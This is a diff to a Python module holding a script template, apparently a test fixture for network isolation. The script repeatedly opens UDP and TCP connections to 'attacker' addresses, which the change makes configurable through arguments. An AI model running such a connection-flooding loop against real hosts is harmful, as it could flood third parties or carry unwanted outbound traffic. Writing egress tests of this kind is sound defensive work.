@@ -1,7 +1,7 @@
-"""A script that sends to the attacker as often as it can, by every way there is.
+"""A script that sends to an attacker as often as it can, by every way there is.
 
-It says `up` first and ends after the number of seconds in its first argument; the second
-is how long it pauses after each round.
+Its arguments are for how many seconds, for how many it pauses after each round, and the
+addresses to send to (`X` without any). It says `up` first.
 """
 
 from __future__ import annotations
@@ -14,7 +14,8 @@ STORM: Final = f"""
 import socket, sys, time
 def send(end):
     while time.monotonic() < end:
-        for family, address in ((2, "{v4(66)}"), (10, "{v6(66)}")):
+        for address in targets:
+            family = socket.AF_INET6 if ":" in address else socket.AF_INET
             udp = socket.socket(family, socket.SOCK_DGRAM)
             tcp = socket.socket(family, socket.SOCK_STREAM)
             tcp.setblocking(False)
@@ -26,6 +27,7 @@ def send(end):
             udp.close(); tcp.close()
         time.sleep(pause)
 pause = float((*sys.argv, 0, 0)[2])
+targets = sys.argv[3:] or ["{v4(66)}", "{v6(66)}"]
 print("up", flush=True)
 send(time.monotonic() + float(sys.argv[1]))
 """
